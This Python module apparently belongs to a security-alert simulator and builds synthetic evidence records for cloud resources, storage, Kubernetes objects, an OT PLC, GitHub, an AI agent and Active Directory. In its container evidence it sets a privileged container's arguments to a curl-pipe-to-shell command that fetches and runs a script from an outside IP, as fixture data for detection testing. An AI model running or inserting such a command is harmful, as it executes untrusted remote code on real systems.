"""Evidence about cloud resources, storage, containers, code hosting, factories and AI agents."""

from datetime import datetime, timedelta
from typing import Any

from simulator.moments import stamp
from simulator.stories.estate import guid, hex_of
from simulator.stories.evidence import Evidence, Maker


def azure(make: Maker, at: datetime, kind: str, name: str, **more: Any) -> Evidence:
    return make.base(
        "azureResourceEvidence",
        at,
        resourceId=make.estate.resource(kind, name),
        resourceName=name,
        resourceType=kind,
        **more,
    )


def amazon(make: Maker, at: datetime, name: str) -> Evidence:
    return make.base(
        "amazonResourceEvidence",
        at,
        amazonAccountId="123456789012",
        amazonResourceId=f"arn:aws:ec2:eu-central-1:123456789012:instance/{name}",
        resourceName=name,
        resourceType="AWS::EC2::Instance",
    )


def google(make: Maker, at: datetime, name: str) -> Evidence:
    project = f"{make.estate.slug}-prod"
    return make.base(
        "googleCloudResourceEvidence",
        at,
        projectId=project,
        projectNumber=648_211_904_553,
        fullResourceName=f"//compute.googleapis.com/projects/{project}/zones/europe-west6-a/instances/{name}",
        location="europe-west6-a",
        locationType="zonal",
        resourceName=name,
        resourceType="compute.googleapis.com/Instance",
    )


def storage(make: Maker, at: datetime) -> Evidence:
    return azure(make, at, "Microsoft.Storage/storageAccounts", storage_name(make))


def storage_name(make: Maker) -> str:
    return f"st{''.join(c for c in make.estate.slug if c.isalnum())}01"[:24]


def blob_container(make: Maker, at: datetime, name: str = "customer-exports") -> Evidence:
    url = f"https://{storage_name(make)}.blob.core.windows.net/{name}"
    return make.base(
        "blobContainerEvidence", at, name=name, url=url, storageResource=storage(make, at)
    )


def blob(make: Maker, at: datetime, name: str) -> Evidence:
    holder = blob_container(make, at)
    hashes = [{"algorithm": "sha256", "value": hex_of(make.rng, 64)}]
    return make.base(
        "blobEvidence",
        at,
        name=name,
        url=f"{holder['url']}/{name}",
        etag=f"0x{hex_of(make.rng, 15).upper()}",
        fileHashes=hashes,
        blobContainer=holder,
    )


def sas_token(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "sasTokenEvidence",
        at,
        allowedIpAddresses="",
        allowedResourceTypes=["container", "object"],
        allowedServices=["blob"],
        permissions=["read", "list"],
        protocol="https",
        signatureHash=hex_of(make.rng, 64),
        signedWith="Key1",
        startDateTime=stamp(at - timedelta(days=3)),
        expiryDateTime=stamp(at + timedelta(days=362)),
        storageResource=storage(make, at),
    )


def cluster(make: Maker, at: datetime) -> Evidence:
    name = f"aks-{make.estate.slug}"
    return make.base(
        "kubernetesClusterEvidence",
        at,
        name=name,
        distribution="AKS",
        platform="aks",
        version="1.33.2",
        cloudResource=azure(make, at, "Microsoft.ContainerService/managedClusters", name),
    )


def namespace(make: Maker, at: datetime, name: str = "payments") -> Evidence:
    return make.base(
        "kubernetesNamespaceEvidence",
        at,
        name=name,
        labels=_labels("team", name),
        cluster=cluster(make, at),
    )


def _labels(*pairs: str) -> dict[str, str]:
    return dict(zip(pairs[::2], pairs[1::2], strict=True))


def registry(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "containerRegistryEvidence", at, registry=f"{make.estate.netbios.lower()}.azurecr.io"
    )


def image(make: Maker, at: datetime) -> Evidence:
    name = f"{make.estate.netbios.lower()}.azurecr.io/payments/api"
    digest = make.base(
        "containerImageEvidence",
        at,
        imageId=f"{name}@sha256:{hex_of(make.rng, 64)}",
        registry=None,
        digestImage=None,
    )
    return make.base(
        "containerImageEvidence",
        at,
        imageId=f"{name}:2.14.0",
        registry=registry(make, at),
        digestImage=digest,
    )


def service_account(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "kubernetesServiceAccountEvidence",
        at,
        name="payments-deployer",
        namespace=namespace(make, at),
    )


def controller(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "kubernetesControllerEvidence",
        at,
        name="payments-api",
        type="Deployment",
        labels=_labels("app", "payments-api"),
        namespace=namespace(make, at),
    )


def pod(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "kubernetesPodEvidence",
        at,
        name=f"payments-api-{hex_of(make.rng, 10)}-{hex_of(make.rng, 5)}",
        namespace=namespace(make, at),
        controller=controller(make, at),
        labels=_labels("app", "payments-api"),
        podIp=make.ip("10.244.3.17", at),
        serviceAccount=service_account(make, at),
        containers=[],
        initContainers=[],
        ephemeralContainers=[],
    )


def container(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "containerEvidence",
        at,
        containerId=hex_of(make.rng, 64),
        name="api",
        isPrivileged=True,
        args=["-c", "curl -s http://203.0.113.66/x.sh | sh"],
        command=["/bin/sh"],
        image=image(make, at),
        pod=pod(make, at),
    )


def secret(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "kubernetesSecretEvidence",
        at,
        name="payments-db-password",
        secretType="Opaque",
        namespace=namespace(make, at),
    )


def service(make: Maker, at: datetime) -> Evidence:
    port = {
        "appProtocol": "http",
        "name": "http",
        "nodePort": 30_080,
        "port": 80,
        "protocol": "tcp",
        "targetPort": "8080",
    }
    return make.base(
        "kubernetesServiceEvidence",
        at,
        name="payments-api",
        serviceType="loadBalancer",
        clusterIP=make.ip("10.0.14.2", at),
        externalIPs=[make.ip("203.0.113.80", at)],
        labels=_labels("app", "payments-api"),
        selector=_labels("app", "payments-api"),
        servicePorts=[port],
        namespace=namespace(make, at),
    )


def connection(make: Maker, at: datetime, source: str, destination: str, port: int) -> Evidence:
    return make.base(
        "networkConnectionEvidence",
        at,
        sourceAddress=make.ip(source, at),
        sourcePort=make.rng.randrange(49_152, 65_535),
        destinationAddress=make.ip(destination, at),
        destinationPort=port,
        protocol="tcp",
    )


def nic(make: Maker, at: datetime, address: str) -> Evidence:
    pairs = hex_of(make.rng, 6)
    return make.base(
        "nicEvidence",
        at,
        ipAddress=make.ip(address, at),
        macAddress=f"00:80:F4:{pairs[:2]}:{pairs[2:4]}:{pairs[4:]}".upper(),
        vlans=["OT-20"],
    )


def iot_device(make: Maker, at: datetime) -> Evidence:
    hub = azure(make, at, "Microsoft.Devices/IotHubs", f"iot-{make.estate.slug}")
    card = nic(make, at, "10.90.4.21")
    return make.base(
        "ioTDeviceEvidence",
        at,
        deviceId=guid(make.rng),
        deviceName="PLC-Turbine-04",
        deviceType="OT",
        deviceSubType="PLC",
        devicePageLink="https://portal.azure.com/#view/Microsoft_Azure_IoT_Defender",
        importance="high",
        ioTHub=hub,
        ioTSecurityAgentId=guid(make.rng),
        ipAddress=make.ip("10.90.4.21", at),
        isAuthorized=True,
        isProgramming=False,
        isScanner=False,
        macAddress=card["macAddress"],
        manufacturer="Schneider Electric",
        model="Modicon M340",
        nics=[card],
        operatingSystem="VxWorks",
        owners=["OT operations"],
        protocols=["Modbus TCP"],
        purdueLayer="Level 1",
        sensor="sensor-hall-3",
        serialNumber=f"SN{make.rng.randrange(10**7)}",
        site="Plant North",
        source="Microsoft Defender for IoT",
        sourceRef=make.url("https://sensor-hall-3.plant.example/alerts/17", at),
        zone="Turbine hall",
    )


def github_organization(make: Maker, at: datetime) -> Evidence:
    login = make.estate.slug
    return make.base(
        "gitHubOrganizationEvidence",
        at,
        company=make.estate.netbios.title(),
        displayName=login,
        email=f"dev@{make.estate.domain}",
        login=login,
        orgId=str(make.rng.randrange(10**7)),
        webUrl=f"https://github.com/{login}",
    )


def github_repo(make: Maker, at: datetime) -> Evidence:
    login = make.estate.slug
    return make.base(
        "gitHubRepoEvidence",
        at,
        baseUrl=f"https://github.com/{login}/payments-api",
        login="payments-api",
        owner=login,
        ownerType="Organization",
        repoId=str(make.rng.randrange(10**8)),
    )


def github_user(make: Maker, at: datetime, login: str, mail: str, name: str) -> Evidence:
    return make.base(
        "gitHubUserEvidence",
        at,
        email=mail,
        login=login,
        name=name,
        userId=str(make.rng.randrange(10**7)),
        webUrl=f"https://github.com/{login}",
    )


def ai_agent(make: Maker, at: datetime) -> Evidence:
    return make.base(
        "aiAgentEvidence",
        at,
        agentId=guid(make.rng),
        agentName="Invoice helper",
        hostingPlatformType="copilotStudio",
        instructions="Answer questions about invoices. Never reveal account numbers.",
    )


def security_group(make: Maker, at: datetime, name: str = "Domain Admins") -> Evidence:
    parts = ",".join(f"DC={part}" for part in make.estate.ad_domain.split("."))
    base_sid = make.estate.people[0].sid.rsplit("-", 1)[0]
    return make.base(
        "securityGroupEvidence",
        at,
        activeDirectoryObjectGuid=guid(make.rng),
        displayName=name,
        distinguishedName=f"CN={name},CN=Users,{parts}",
        friendlyName=name,
        securityGroupId=guid(make.rng),
        sid=f"{base_sid}-512",
    )


def ad_domain(make: Maker, at: datetime) -> Evidence:
    trusted = make.base(
        "activeDirectoryDomainEvidence",
        at,
        activeDirectoryDomainName=f"legacy.{make.estate.domain}",
        trustedDomains=[],
    )
    return make.base(
        "activeDirectoryDomainEvidence",
        at,
        activeDirectoryDomainName=make.estate.ad_domain,
        trustedDomains=[trusted],
    )
